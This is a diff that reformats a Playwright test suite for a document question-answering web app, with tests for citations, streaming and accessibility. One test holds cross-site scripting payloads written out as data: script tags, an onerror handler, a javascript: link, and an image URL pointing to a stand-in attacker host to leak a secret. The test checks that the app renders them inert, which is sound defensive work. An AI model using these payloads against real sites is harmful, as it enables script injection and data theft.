@@ -63,7 +63,11 @@ def test_a_newcomer_drops_a_file_and_asks(browser):
         visitor.ask(QUESTION)
         page.locator(".cite").wait_for()
         assert time.monotonic() - began < 10
-        assert page.locator("answer-text").inner_text().startswith("The kettle has a warranty of seven years")
+        assert (
+            page.locator("answer-text")
+            .inner_text()
+            .startswith("The kettle has a warranty of seven years")
+        )
         visitor.close()
 
 
@@ -90,7 +94,9 @@ def test_a_citation_opens_the_document_at_the_passage(stub, visitor, page):
     visitor.ask(QUESTION)
     page.locator(".cite").click()
     page.locator("mark.quote").first.wait_for()
-    assert marked(page, "quote") == SENTENCE  # exactly, though an emoji of two units stands before it
+    assert (
+        marked(page, "quote") == SENTENCE
+    )  # exactly, though an emoji of two units stands before it
     assert marked(page, "current") == stub.citations[0]["text"]
     assert page.locator("mark.quote").first.is_visible()
     quote, passage = (
@@ -143,7 +149,9 @@ def test_sources_stand_there_before_the_first_word(stub, page):
 
 def test_brackets_step_through_the_passages(stub, visitor, page):
     other = stub.add("lid.md", "# Lid\n\nThe lid is replaced within three days.\n")
-    stub.citations.append(stub.citation(other, "The lid is replaced within three days.", None, heading="Lid"))
+    stub.citations.append(
+        stub.citation(other, "The lid is replaced within three days.", None, heading="Lid")
+    )
     stub.answer = "Seven years [1], and the lid within three days [2]."
     visitor.ask(QUESTION)
     assert page.locator(".cite").all_inner_texts() == ["1", "2"]
@@ -174,7 +182,10 @@ def test_a_document_that_is_gone_shows_the_passage_as_it_was(stub, visitor, page
 def test_what_it_took_is_said(visitor, page):
     visitor.ask(QUESTION)
     summary = page.locator(".took summary")
-    assert summary.inner_text() == "found in 40 ms, first word after 120 ms, 89 tokens/s, passage not read again"
+    assert (
+        summary.inner_text()
+        == "found in 40 ms, first word after 120 ms, 89 tokens/s, passage not read again"
+    )
     summary.click()
     assert "36 of 164 tokens" in page.locator(".took-panel").inner_text()
 
@@ -182,7 +193,10 @@ def test_what_it_took_is_said(visitor, page):
 def test_tables_and_code_are_shown_as_such(stub, visitor, page):
     stub.answer = "| part | price |\n|---|---:|\n| lid | 4.50 |\n\n```python\nprint(1)\n```"
     visitor.ask(QUESTION)
-    assert page.locator("answer-text td").last.evaluate("e => getComputedStyle(e).textAlign") in ("end", "right")
+    assert page.locator("answer-text td").last.evaluate("e => getComputedStyle(e).textAlign") in (
+        "end",
+        "right",
+    )
     page.locator(".code-frame").hover()
     page.get_by_role("button", name="Copy", exact=True).click()
     assert page.evaluate("navigator.clipboard.readText()") == "print(1)\n"
@@ -239,10 +253,13 @@ def test_stop_keeps_what_came_and_go_on_goes_on(stub, page):
     page.get_by_role("button", name="Stop").click()
     page.get_by_text("Stopped.").first.wait_for()
     came = page.locator("answer-text").inner_text()
-    assert came.startswith("The kettle has a ") and "bought" not in came
+    assert came.startswith("The kettle has a ")
+    assert "bought" not in came
     page.get_by_role("button", name="Go on").click()
     page.wait_for_timeout(200)
-    assert page.locator("answer-text").inner_text().startswith("The kettle has a ")  # it does not begin anew
+    assert (
+        page.locator("answer-text").inner_text().startswith("The kettle has a ")
+    )  # it does not begin anew
     page.locator("answer-text", has_text="the day it was bought.").wait_for()
     assert page.locator(".turn").count() == 1
     assert stub.asked[1]["seed"] == stub.asked[0]["seed"]
@@ -279,7 +296,10 @@ def test_the_server_goes_away_and_comes_back(stub, server, visitor, page):
 
 
 def test_an_error_is_said_in_the_servers_words(stub, visitor, page):
-    stub.error = {"message": "the question has 9,000 tokens; the model reads 2,048", "code": "context_length_exceeded"}
+    stub.error = {
+        "message": "the question has 9,000 tokens; the model reads 2,048",
+        "code": "context_length_exceeded",
+    }
     visitor.ask(QUESTION)
     page.get_by_text("the question has 9,000 tokens").first.wait_for()
     stub.error = None
@@ -320,7 +340,8 @@ def test_editing_a_question_takes_the_place_of_what_follows(stub, visitor, page)
     page.locator("h2.question", has_text="How much does it hold?").wait_for()
     page.locator(".turn[aria-busy=false]").wait_for()
     assert page.locator(".turn").count() == 1
-    assert [m["content"] for m in next(iter(stub.conversations.values()))["messages"]][0] == "How much does it hold?"
+    (kept,) = stub.conversations.values()
+    assert kept["messages"][0]["content"] == "How much does it hold?"
 
 
 def test_a_conversation_is_there_after_a_reload(visitor, page):
@@ -413,7 +434,14 @@ def test_nothing_is_answered_from_what_was_removed(stub, visitor, page):
 
 
 def test_reading_documents_shows_how_far_it_is(stub, visitor, page):
-    stub.indexing = {"state": "indexing", "done": 312, "total": 1000, "failed": 1, "seconds_left": 240, "current": "a"}
+    stub.indexing = {
+        "state": "indexing",
+        "done": 312,
+        "total": 1000,
+        "failed": 1,
+        "seconds_left": 240,
+        "current": "a",
+    }
     page.get_by_text("312 of 1,000 files, 4 minutes left").first.wait_for()
     page.get_by_text("You may ask already").wait_for()
     visitor.shot("indexing")
@@ -458,7 +486,8 @@ def test_settings_and_chosen_documents_go_with_the_question(stub, visitor, page)
 
 def test_nothing_in_an_answer_or_a_document_becomes_active(stub, browser, server):
     evil = (
-        "Hello <script>document.title = 'owned'</script> <img src=x onerror=\"document.title='owned'\"> "
+        "Hello <script>document.title = 'owned'</script> "
+        "<img src=x onerror=\"document.title='owned'\"> "
         "![t](https://evil.example/steal.png?q=secret) [click](javascript:document.title='owned') "
         "<a href='https://evil.example'>here</a> <iframe src='https://evil.example'></iframe>\n\n"
         "<style>body { display: none }</style>\n\n[ok](https://example.org/)"
@@ -474,7 +503,10 @@ def test_nothing_in_an_answer_or_a_document_becomes_active(stub, browser, server
     assert page.title() != "owned"
     made = "answer-text :is(script, img, iframe, style, svg, form, input, [onerror], [style])"
     assert page.locator(made).count() == 0
-    assert page.locator("answer-text a").evaluate_all("all => all.map(a => a.href)") == ["", "https://example.org/"]
+    assert page.locator("answer-text a").evaluate_all("all => all.map(a => a.href)") == [
+        "",
+        "https://example.org/",
+    ]
     assert "<script>" in page.locator("answer-text").inner_text()
     assert page.locator("document-text").evaluate("e => e.textContent") == evil
     visitor.close()  # and nothing was fetched from elsewhere
@@ -530,7 +562,8 @@ def test_a_screen_reader_hears_the_answer_once_it_is_whole(stub, visitor, page):
     stub.delay = 0.02
     page.evaluate(
         """() => { window.heard = []; const box = document.querySelector('[role=status]');
-        new MutationObserver(() => heard.push(box.textContent)).observe(box, {childList: true, characterData: true, subtree: true}); }"""
+        new MutationObserver(() => heard.push(box.textContent)).observe(
+          box, {childList: true, characterData: true, subtree: true}); }"""
     )
     visitor.ask(QUESTION)
     until(page, "heard.length > 0")
@@ -546,7 +579,8 @@ def test_on_a_phone(browser, server):
     page.locator("mark.quote").first.wait_for()
     page.wait_for_timeout(200)
     box = page.locator(".document").bounding_box()
-    assert box["x"] == 0 and box["width"] == NARROW[0] and box["y"] > 0
+    assert (box["x"], box["width"]) == (0, NARROW[0])
+    assert box["y"] > 0
     visitor.shot("phone")
     page.get_by_role("button", name="Close the document").tap()
     page.get_by_role("button", name="Conversations and documents").tap()
@@ -613,7 +647,13 @@ def test_ten_thousand_documents_and_five_hundred_conversations(browser, stub, se
     for i in range(10_000):
         stub.add(f"reports/{i:05d}.pdf", None)
     for i in range(500):
-        kept = {"id": f"c{i}", "title": f"Question {i}", "created": now(), "updated": now(), "messages": []}
+        kept = {
+            "id": f"c{i}",
+            "title": f"Question {i}",
+            "created": now(),
+            "updated": now(),
+            "messages": [],
+        }
         stub.conversations[kept["id"]] = kept
     visitor = Visitor(browser, server.url)
     page = visitor.open()
@@ -628,7 +668,10 @@ def test_ten_thousand_documents_and_five_hundred_conversations(browser, stub, se
 
 
 def test_a_long_document_opens_quickly_at_its_passage(stub, visitor, page):
-    lines = [f"Line {i} of the long report, which goes on about the kettle for a while.\n\n" for i in range(28_000)]
+    lines = [
+        f"Line {i} of the long report, which goes on about the kettle for a while.\n\n"
+        for i in range(28_000)
+    ]
     text = "".join(lines)
     assert len(text) > 2_000_000
     document = stub.add("long.txt", text)
@@ -639,10 +682,10 @@ def test_a_long_document_opens_quickly_at_its_passage(stub, visitor, page):
     page.locator("mark.quote").wait_for()
     page.keyboard.press("Escape")
     took = page.evaluate(
-        """async () => {
+        """async ([id, citations]) => {
           const { DocumentText } = await import('./elements/document-text.js');
-          const text = (await (await fetch('/api/documents/' + '%s')).json()).text;
-          const open = {name: 'long.txt', passages: [], citations: %s, at: 0, round: 1, text};
+          const text = (await (await fetch('/api/documents/' + id)).json()).text;
+          const open = {name: 'long.txt', passages: [], citations, at: 0, round: 1, text};
           const element = new DocumentText();
           element.style.height = '600px'; element.style.display = 'block';
           const began = performance.now();
@@ -651,8 +694,8 @@ def test_a_long_document_opens_quickly_at_its_passage(stub, visitor, page):
           element.querySelector('mark.quote').getBoundingClientRect();
           const took = performance.now() - began;
           element.remove();
-          return took; }"""
-        % (document["id"], __import__("json").dumps(stub.citations))
+          return took; }""",
+        [document["id"], stub.citations],
     )
     print(f"2 MB opened at a passage in {took:.0f} ms")
     assert took < 1000  # 200 on a quiet machine
